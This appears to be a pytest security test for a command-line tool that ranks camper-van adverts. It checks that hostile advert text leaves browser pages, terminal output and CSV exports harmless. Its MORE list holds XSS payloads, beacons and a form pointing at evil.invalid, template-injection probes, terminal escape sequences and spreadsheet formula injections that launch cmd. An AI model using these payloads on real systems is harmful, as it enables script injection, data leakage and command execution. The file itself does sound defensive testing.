"""Hostile adverts through the whole program: every page opens in Chromium with the network watched, nothing runs,
nothing is asked for; the table sends no escape sequence to the terminal; exported tables hold no formula."""

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from test_report_page import ATTACKS
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.search import start_search

MORE = [
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/refresh">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg xmlns='http://www.w3.org/2000/svg'><script href='data:text/javascript,alert(1)'/></svg>",
    "<style>@import url(https://evil.invalid/css);*{background:url(https://evil.invalid/bg)}</style>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<img src=https://evil.invalid/pixel.png srcset='https://evil.invalid/2x.png 2x'>",
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><input name=q><button>go</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<video autoplay src=https://evil.invalid/v.mp4></video>",
    "{{ config.__class__.__init__.__globals__ }}{% raw %}",
    "\x1b]8;;https://evil.invalid\x1b\\link\x1b]8;;\x1b\\\x1b[2J\x1b[31m\x9b31m",
    '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
STRINGS = [*ATTACKS, *MORE]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A search of 13 adverts whose texts, titles, places, sellers and addresses are the attacks."""
    folder = tmp_path_factory.mktemp("hostile") / "s"
    start_search(folder, home="Skipton", budget=7000, guide_price=5500)
    size = 10
    with (folder / "inbox" / "attacks.jsonl").open("w", encoding="utf-8") as handle:
        for n in range(0, len(STRINGS), size):
            some = STRINGS[n : n + size]
            facts = f"199{n % 9} Marrick Dale camper, 2.4 diesel, {70 + n},000 miles, MOT to June 2027. £{3000 + n}."
            text = f"{facts} The sills {' the sills '.join(some)} need welding."
            row = {"id": some[0], "text": text, "title": some[-1], "seller": some[1], "place": some[2], "url": some[-2]}
            handle.write(json.dumps(row) + "\n")
    added = CliRunner().invoke(app, ["add", "--search", str(folder), "--json"])
    assert json.loads(added.stdout)["seen"] == json.loads(added.stdout)["new"] + len(
        json.loads(added.stdout)["refused"]
    )
    return folder


@pytest.fixture(scope="module")
def printed(folder: Path) -> str:
    done = CliRunner().invoke(app, ["rank", "--search", str(folder)])
    assert done.exit_code == 0, done.output
    return done.output


def test_the_terminal_gets_no_escape_sequence(folder: Path, printed: str) -> None:
    shown = printed + CliRunner().invoke(app, ["show", "1", "--search", str(folder)]).output
    assert "need welding" in shown
    assert [c for c in shown if c < " " and c not in "\n\t"] == [] and "\x9b" not in shown


def test_exported_tables_hold_no_formula(folder: Path, printed: str, tmp_path: Path) -> None:
    done = CliRunner().invoke(app, ["export", str(tmp_path / "out"), "--search", str(folder), "--contacts"])
    assert done.exit_code == 0, done.output
    cells = 0
    for path in (tmp_path / "out").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                cells += len(row)
                for cell in row:
                    number = cell[1:].replace(".", "", 1).replace("e-", "", 1).isdigit()
                    assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert cells > 500


@pytest.mark.browser
def test_every_page_is_inert_in_a_browser(folder: Path, printed: str, browser: Any) -> None:
    pages = sorted((folder / "reports").rglob("*.html"))
    assert pages
    troubles: list[str] = []
    asked: list[str] = []
    for path in pages:
        context = browser.new_context()
        context.route("**/*", lambda route: (asked.append(route.request.url), route.continue_()))
        page = context.new_page()
        page.add_init_script("window.print = () => {}")  # a print dialogue would wait for somebody
        page.on("console", lambda message: troubles.append(message.text))
        page.on("pageerror", lambda error: troubles.append(str(error)))
        page.on("dialog", lambda dialog: (troubles.append(dialog.message), dialog.dismiss()))
        page.goto(path.as_uri())
        page.locator("a, button, summary").evaluate_all(
            "all => all.slice(0, 300).forEach(a => a.dispatchEvent(new MouseEvent('click', {bubbles: true})))"
        )
        page.wait_for_timeout(700)
        assert page.url.split("#")[0] == path.as_uri(), "it went elsewhere"
        assert page.locator("iframe, form, base, object, embed, svg script, img[src^=http]").count() == 0
        context.close()
    assert troubles == []
    ours = {path.as_uri() for path in pages}
    assert [url for url in asked if url.split("#")[0] not in ours] == []
